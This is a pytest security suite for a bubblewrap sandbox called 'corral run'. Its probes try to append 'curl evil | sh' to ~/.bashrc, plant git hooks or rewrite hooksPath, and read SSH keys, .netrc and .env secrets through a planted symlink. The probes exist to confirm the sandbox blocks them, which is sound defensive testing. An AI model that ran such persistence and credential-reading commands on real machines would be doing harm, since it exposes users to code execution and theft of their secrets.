"""Probes run inside `corral run` (real bwrap; as root dropping to the invoking user, and as an unprivileged user) cannot write outside the project or to protected paths, read hidden secrets, reach host sockets, the network or other processes, and see their exit code and TTY pass through."""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from tests.security.local_world import SECRET, USER, USER_PYTHON, World
from tests.security.local_world import git as _git
from tests.security.local_world import results as _results
from tests.security.local_world import world as world  # the fixture: pytest looks for it here

pytestmark = [
    pytest.mark.security,
    pytest.mark.skipif(
        shutil.which("bwrap") is None, reason="needs bwrap (apt-get install bubblewrap)"
    ),
]

# ----------------------------------------------------------------------------- writes


def test_bashrc_is_not_writable_from_a_subdirectory(world: World) -> None:
    r = world.sh("echo 'curl evil | sh' >> ~/.bashrc", cwd=world.project / "sub" / "dir")
    assert r.returncode != 0
    assert "Read-only file system" in r.stderr
    assert (world.home / ".bashrc").read_text() == "# the user's own\n"


def test_protected_paths_in_the_project_are_read_only(world: World) -> None:
    r = world.sh(
        "touch .git/hooks/pre-commit; echo hook=$?;"
        " echo '[core] hooksPath=/tmp' >> .git/config; echo config=$?;"
        " echo '{\"hooks\":1}' > sub/dir/.claude/settings.json; echo claude=$?;"
        " rm -rf sub/dir/.claude; echo rm=$?;"
        " mv .git .git-old; echo mvgit=$?;"
        " mv sub moved; echo mvsub=$?;"
        " mkdir .corral; echo corral=$?",
    )
    res = _results(r.stdout)
    assert all(res[k] != "0" for k in ("hook", "config", "claude", "rm", "mvgit", "mvsub")), res
    assert not (world.project / ".git" / "hooks" / "pre-commit").exists()
    assert "hooksPath" not in (world.project / ".git" / "config").read_text()
    assert (world.project / "sub" / "dir" / ".claude" / "settings.json").read_text() == "{}\n"
    assert (world.project / ".git").is_dir() and (world.project / "sub").is_dir()
    # .corral did not exist, so no mount covers it: the guard refuses to create it
    # (tests/security/test_local_guard.py has the rest of that).
    assert res["corral"] != "0" and not (world.project / ".corral").exists()
    assert "protected path created" not in r.stderr


def test_the_project_is_writable_as_the_user(world: World) -> None:
    r = world.sh("mkdir -p a/b && echo data > a/b/new.txt && echo more >> README")
    assert r.returncode == 0, r.stderr
    made = world.project / "a" / "b" / "new.txt"
    assert made.read_text() == "data\n"
    assert made.stat().st_uid == USER
    assert (world.project / "README").read_text() == "hello\nmore\n"


def test_the_rest_of_the_system_is_read_only(world: World) -> None:
    r = world.sh(
        "touch /etc/corral-probe; echo etc=$?; touch /usr/bin/corral-probe; echo usr=$?;"
        f" touch {world.base}/outside; echo tmp=$?"
    )
    res = _results(r.stdout)
    assert res["etc"] != "0" and res["usr"] != "0", res
    assert not Path("/etc/corral-probe").exists()
    # /tmp inside is a fresh tmpfs: writable, and gone with the sandbox.
    assert res["tmp"] == "0"
    assert not (world.base / "outside").exists()


# ------------------------------------------------------------------------------ reads


def test_secrets_are_hidden_even_through_a_planted_symlink(world: World) -> None:
    (world.project / "key").symlink_to(world.home / ".ssh" / "id_rsa")
    os.lchown(world.project / "key", USER, USER)
    r = world.sh(
        "cat key; cat ~/.ssh/id_rsa; ls -A ~/.ssh; ls -A ~/.aws; cat ~/.netrc;"
        " cat ~/code/other/.env; echo done"
    )
    assert r.stdout.strip().endswith("done")
    assert SECRET not in r.stdout
    assert SECRET not in r.stderr


def test_allow_read_shows_one_file_of_a_hidden_directory(world: World) -> None:
    known = world.home / ".ssh" / "known_hosts"
    known.write_text("github.com ssh-ed25519 AAAA\n")
    os.chown(known, USER, USER)
    r = world.sh(
        "cat ~/.ssh/known_hosts; cat ~/.ssh/id_rsa; touch ~/.ssh/new; echo touch=$?",
        flags=["--allow-read", str(known)],
    )
    assert "github.com ssh-ed25519" in r.stdout
    assert SECRET not in r.stdout
    assert _results(r.stdout)["touch"] != "0"


def test_secret_variables_stay_outside(world: World) -> None:
    r = world.sh(
        "echo ${GITHUB_TOKEN:-none} ${AWS_SECRET_ACCESS_KEY:-none} $CORRAL_LOCAL",
        env={"GITHUB_TOKEN": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET},
    )
    assert r.stdout.split() == ["none", "none", "1"]


def test_a_bound_key_written_in_a_visible_file_is_hidden_there(world: World) -> None:
    # --secret keeps the value out of the environment; an rc file exporting it, or a .env in
    # the project, would hand it over anyway: corral hides the files that hold it.
    key = "sk-live-" + SECRET
    (world.home / ".bashrc").write_text(f"# the user's own\nexport K={key}\n")
    (world.project / ".env").write_text(f"K={key}\n")
    r = world.sh(
        'cat ~/.bashrc; cat .env; echo "K=$K"',
        flags=["--allow-domain", "example.com", "--secret", "K:example.com"],
        env={"K": key},
    )
    assert key not in r.stdout and "K=corral-secret-" in r.stdout, (r.stdout, r.stderr)
    for path in (world.home / ".bashrc", world.project / ".env"):
        assert f"{path} holds the value of K: hidden inside" in r.stderr, r.stderr
        assert key in path.read_text()  # hidden inside, untouched outside


def test_host_unix_sockets_cannot_be_reached(world: World) -> None:
    # One in the host's /tmp (a fresh tmpfs inside) and one in the home, which the sandbox
    # sees read-only: connect() works on a read-only mount, so the jail must cover it.
    paths = [world.base / "host.sock", world.home / "app.sock"]
    servers = []
    try:
        for p in paths:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(str(p))
            s.listen()
            p.chmod(0o777)
            servers.append(s)
        probe = (
            "import socket,sys\n"
            "for p in sys.argv[1:]:\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n"
            "        s.connect(p); print(p + '=connected')\n"
            "    except OSError as e:\n"
            "        print(p + '=' + type(e).__name__)\n"
        )
        assert USER_PYTHON is not None
        r = world.run([USER_PYTHON, "-I", "-c", probe, *map(str, paths)])
        res = _results(r.stdout)
        assert len(res) == 2, r.stderr
        assert "connected" not in res.values(), res
    finally:
        for s in servers:
            s.close()


# ---------------------------------------------------------------------------- network


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
@pytest.mark.parametrize("flags", [[], ["--allow-domain", "example.com"]], ids=["none", "proxy"])
def test_a_program_ignoring_the_proxy_has_no_route(world: World, flags: list[str]) -> None:
    r = world.run(
        ["curl", "-sS", "-m", "5", "--noproxy", "*", "http://198.51.100.10/"], flags=flags
    )
    assert r.returncode == 7, (r.returncode, r.stderr)  # couldn't connect: no route


def test_an_untrusted_project_file_only_narrows(world: World) -> None:
    settings = world.project / ".corral" / "local.toml"
    settings.parent.mkdir()
    settings.write_text('allow_domains = ["example.com"]\ndeny_read = ["sub"]\n')
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(settings.parent)], check=os.geteuid() == 0)
    probe = "echo proxy=${HTTPS_PROXY:-none}; ls sub | wc -l | sed 's/^/sub=/'; touch .corral/x; echo w=$?"
    r = world.sh(probe)
    res = _results(r.stdout)
    assert res["proxy"] == "none" and res["sub"] == "0" and res["w"] != "0", r.stdout
    assert "not trusted" in r.stderr and "example.com" in r.stderr
    r = world.sh(probe, flags=["--trust-project"])
    assert _results(r.stdout)["proxy"].startswith("http://127.0.0.1:")
    assert "widens" in r.stderr


# -------------------------------------------------------------------------- processes


def test_exit_codes_pass_through(world: World) -> None:
    assert world.sh("exit 7").returncode == 7
    assert world.sh("kill -TERM $$").returncode == 128 + 15


def test_processes_outside_are_invisible(world: World) -> None:
    r = world.run(["ps", "-eo", "pid=,comm="])
    procs = [line.split(None, 1) for line in r.stdout.strip().splitlines()]
    # bwrap's init, the guard (corral/local/guard.py) and ps itself.
    assert {comm for _, comm in procs} <= {"bwrap", "corral-guard", "ps"}, procs
    assert len(procs) <= 3


def test_no_new_user_namespaces(world: World) -> None:
    r = world.run(["unshare", "-U", "true"])
    assert r.returncode != 0


@pytest.mark.skipif(shutil.which("script") is None, reason="needs script (util-linux)")
def test_the_tty_passes_through(world: World) -> None:
    r = world.sh(
        "test -t 0 && test -t 1 && echo TTY-OK; tty; stat -L -c 'dev=%t:%T' /proc/self/fd/0",
        tty=True,
    )
    assert r.returncode == 0, r.stderr
    lines = [line.strip() for line in r.stdout.splitlines()]
    assert "TTY-OK" in lines
    # bwrap shows the terminal as /dev/console (its /dev is private; docs/local.md)
    assert any(re.fullmatch(r"/dev/(console|pts/\d+)", line) for line in lines), lines
    major = next(line for line in lines if line.startswith("dev="))
    assert int(major.split("=")[1].split(":")[0], 16) == 136  # a Unix98 pty, the outer one


def test_ctrl_c_is_the_commands_to_handle(world: World) -> None:
    # An agent traps ^C to stop its turn and carries on: bwrap must not die of it.
    out, code = world.interrupt("trap 'echo got-int; exit 3' INT; echo ready; sleep 60 & wait")
    assert "got-int" in out
    assert code == 3
    # A command that does not trap it ends as it would outside. (One process: dash defers a ^C
    # that lands while it forks a foreground child until that child ends, sandbox or not.)
    out, code = world.interrupt("echo ready; exec sleep 60")
    assert code == 128 + 2


# ---------------------------------------------------------------------------- worktrees


def test_a_worktree_can_commit_but_not_touch_hooks(world: World) -> None:
    main = world.base / "main"
    wt = world.base / "wt"
    main.mkdir()
    _git("init", "-q", cwd=main)
    _git("commit", "-q", "--allow-empty", "-m", "first", cwd=main)
    _git("worktree", "add", "-q", str(wt), cwd=main)
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(main), str(wt)], check=os.geteuid() == 0)
    r = world.sh(
        "git -c user.name=a -c user.email=a@a commit -q --allow-empty -m inside; echo commit=$?;"
        f" touch {main}/.git/hooks/post-commit; echo hook=$?;"
        f" echo x >> {main}/.git/config; echo config=$?;"
        " echo 'gitdir: /tmp' > .git; echo gitfile=$?",
        cwd=wt,
    )
    res = _results(r.stdout)
    assert res["commit"] == "0", r.stderr
    assert res["hook"] != "0" and res["config"] != "0" and res["gitfile"] != "0", res
    log = subprocess.run(
        ["git", "-c", f"safe.directory={main}", "log", "--format=%s", "--all"],
        cwd=main,
        capture_output=True,
        text=True,
        check=True,
    )
    assert "inside" in log.stdout.split()
